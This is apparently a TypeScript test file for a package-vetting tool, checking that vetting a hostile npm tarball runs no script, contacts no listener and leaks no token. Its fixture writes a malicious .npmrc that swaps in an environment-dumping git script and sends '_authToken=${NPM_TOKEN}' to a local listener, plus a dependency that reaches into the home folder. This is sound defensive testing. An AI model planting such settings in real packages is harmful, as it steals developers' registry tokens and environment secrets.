// vet of a hostile tarball (issue 15): the package ships a `.npmrc` that names its own git program and
// points the registry at a listener with `_authToken=${NPM_TOKEN}`, and depends on a git repository
// and a registry package. Before, npm ran in the unpacked folder, read that `.npmrc`, ran the script
// with the tokens in its environment and sent the token to the listener. Now npm runs in a folder of
// vet's own, with no token in its environment, and the git dependency is listed as not installed.
import assert from 'node:assert/strict';
import { appendFileSync, chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { VetResult } from '../../src/vet/vet-model.js';
import { runCommand } from '../../src/vet/run-command.js';
import { attackLab, filesUnder, leakedSecrets, type Lab } from '../helpers/attack-lab.js';
import { runCli } from '../cli/run-cli.js';

describe('vet: a tarball with its own .npmrc', { skip: process.platform === 'win32' ? 'a shell script as git' : false }, () => {
  let lab: Lab;
  let tgz: string;
  before(async () => {
    lab = await attackLab();
    // the user's own registry: nothing listens there, npm gives up at once (no retries)
    appendFileSync(path.join(lab.home, '.npmrc'), 'registry=http://127.0.0.1:1/\nfetch-retries=0\nfetch-timeout=5000\n');
    const evilGit = path.join(lab.root, 'evil-git.sh');
    writeFileSync(evilGit, `#!/bin/sh\nenv > ${JSON.stringify(path.join(lab.outside, 'git-ran'))}\nexit 1\n`);
    chmodSync(evilGit, 0o755);
    const pkg = path.join(lab.root, 'src', 'package');
    mkdirSync(pkg, { recursive: true });
    writeFileSync(
      path.join(pkg, 'package.json'),
      JSON.stringify({
        name: 'hostile-npmrc',
        version: '1.0.0',
        main: 'index.js',
        dependencies: { 'evil-git-dep': 'git+ssh://git@127.0.0.1/evil/evil.git', 'left-pad': '^1.3.0', 'local-secret': 'file:../../home' },
      }),
    );
    writeFileSync(path.join(pkg, 'index.js'), "'use strict';\nmodule.exports = {};\n");
    // both git= forms: the absolute one works wherever npm runs, the relative one where it ran before
    const npmrc = [`git=${evilGit}`, `registry=http://127.0.0.1:${lab.port}/`, `//127.0.0.1:${lab.port}/:_authToken=\${NPM_TOKEN}`, 'fetch-retries=0', ''];
    writeFileSync(path.join(pkg, '.npmrc'), npmrc.join('\n'));
    writeFileSync(path.join(pkg, 'evil-git.sh'), readFileSync(evilGit));
    chmodSync(path.join(pkg, 'evil-git.sh'), 0o755);
    tgz = path.join(lab.root, 'hostile-npmrc-1.0.0.tgz');
    const t = await runCommand('tar', ['-czf', tgz, '-C', path.dirname(pkg), 'package'], { cwd: lab.root });
    assert.equal(t.code, 0, t.stderr);
  });
  after(() => lab.close());

  for (const offline of [true, false]) {
    it(`${offline ? '--offline' : 'online'}: no script ran, nothing reached the listener, no token anywhere; the git and file dependencies are listed as not installed`, async () => {
      const r = await runCli(['vet', tgz, '--no-bench', ...(offline ? ['--offline'] : []), '--format', 'json', '-q'], { cwd: lab.root, env: lab.env, timeoutMs: 180_000 });
      assert.equal(r.code, 0, r.stderr);
      const result = JSON.parse(r.stdout) as VetResult;
      assert.deepEqual(
        result.dependencies.notInstalled?.map((d) => d.name),
        ['evil-git-dep', 'local-secret'],
      );
      assert.ok(
        result.reasons.some((x) => x.code === 'dependencies'),
        'a warning says what was not installed',
      );
      assert.deepEqual(filesUnder(lab.outside), []);
      assert.deepEqual(lab.connections(), []);
      assert.deepEqual(leakedSecrets(lab, r.stdout + r.stderr), []);
    });
  }
});
